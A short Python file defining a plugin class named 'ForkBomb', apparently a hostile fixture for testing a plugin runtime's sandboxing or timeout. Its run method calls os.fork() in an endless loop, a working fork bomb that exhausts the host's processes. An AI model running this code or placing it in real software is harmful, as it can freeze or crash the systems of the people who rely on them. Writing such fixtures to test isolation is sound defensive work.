"""Doubles itself as often as it can."""

from __future__ import annotations

import os
from typing import ClassVar

from runtime import Manifest, Plugin


class ForkBomb(Plugin):
    name: ClassVar[str] = "fork-bomb"
    version: ClassVar[str] = "1"
    manifest: ClassVar[Manifest] = Manifest(
        "Doubles itself as often as it can.", ("image/png",), timeout_seconds=20.0
    )

    def run(self, payload: dict[str, object]) -> dict[str, object]:
        while True:
            os.fork()
